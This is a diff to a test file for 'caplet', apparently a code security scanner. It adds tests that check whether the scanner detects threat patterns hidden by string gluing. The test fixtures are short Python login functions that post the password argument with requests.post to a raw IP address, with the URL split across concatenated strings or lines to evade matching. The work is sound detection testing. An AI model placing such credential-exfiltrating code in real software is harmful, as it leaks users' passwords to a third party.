@@ -15,7 +15,7 @@ from caplet._findings import Severity
 from caplet._scan import _filepass
 from caplet._scan._glued_strings import MAX_GLUED_LINES, glued, with_glued_strings
 from caplet._scan._model import ScanMode
-from caplet._scan._prefilter import Need, Prefilter, prefilter
+from caplet._scan._prefilter import BLIND, Need, Prefilter, prefilter
 from caplet._scan._scanner import scan_tree
 
 
@@ -193,3 +193,66 @@ def test_a_glued_indicator_no_pattern_locates_makes_a_large_file_whole() -> None
     assert len(text) > 12_000
     assert isinstance(prefilter().check(text), frozenset)
     assert answer(text) is Need.FULL
+
+
+#: attack7: a side of a conjunction only the glue makes, its other sides on other lines
+#: (the glued lines alone hold no conjunction, the file as written none either).
+_GLUE_COMPLETES = {
+    # a credential parameter, an egress, and a raw-IP address glued (CPL-THR-026)
+    "address-side-by-side": (
+        "import requests\ndef login(user, password):\n"
+        "    requests.post('http:' '//203.0.113.9/p', data=password)\n",
+        "CPL-THR-026",
+    ),
+    "address-added": (
+        "import requests\ndef login(user, password):\n"
+        "    requests.post('ht' + 'tp://203.0.113.9/p', data=password)\n",
+        "CPL-THR-026",
+    ),
+    "address-across-lines": (
+        "import requests\ndef login(user, password):\n"
+        "    requests.post(('https://'\n        '203.0.113.9/p'), data=password)\n",
+        "CPL-THR-026",
+    ),
+}
+
+
+@pytest.mark.parametrize("large", [False, True])
+@pytest.mark.parametrize("shape", sorted(_GLUE_COMPLETES))
+def test_a_side_only_the_glue_makes_completes_a_conjunction_elsewhere(
+    shape: str, large: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    text, rule = _GLUE_COMPLETES[shape]
+    if large:
+        text += "".join(f"def f{i}(a):\n    return a * {i}\n\n" for i in range(600))
+    assert answer(text) is Need.FULL
+    (tmp_path / "mod.py").write_text(text, encoding="utf-8")
+    filtered = _danger(tmp_path)
+    with monkeypatch.context() as patch:
+        patch.setattr(_filepass, "prefilter", _Blind)
+        whole = _danger(tmp_path)
+    assert rule in {r for r, _ in whole}
+    assert filtered == whole
+
+
+def test_only_a_conjunction_across_the_file_and_its_glued_lines_is_completed() -> None:
+    check = prefilter()
+    text = "import requests\ndef login(user, password):\n    pass\n"
+    glued = "x = 'http://10.0.0.1'"
+    assert check.completes(text, glued)
+    # all sides in the file as written, or all in its glued lines: the answers of the
+    # text and of the glued lines already hold it
+    assert not check.completes(text + glued + "\n", glued)
+    assert not check.completes("x = 1\n", "import requests\ndef f(password): " + glued)
+    assert not check.completes(text, "x = 'https://example.org'")
+
+
+def test_a_blind_set_completes_whatever_the_glue_makes(monkeypatch: pytest.MonkeyPatch) -> None:
+    check = Prefilter()
+
+    class Failed:
+        def Match(self, data: bytes) -> list[int]:
+            return [BLIND]
+
+    monkeypatch.setattr(check, "_set", Failed())
+    assert check.completes("x = 1\n", "y = 'ab'")
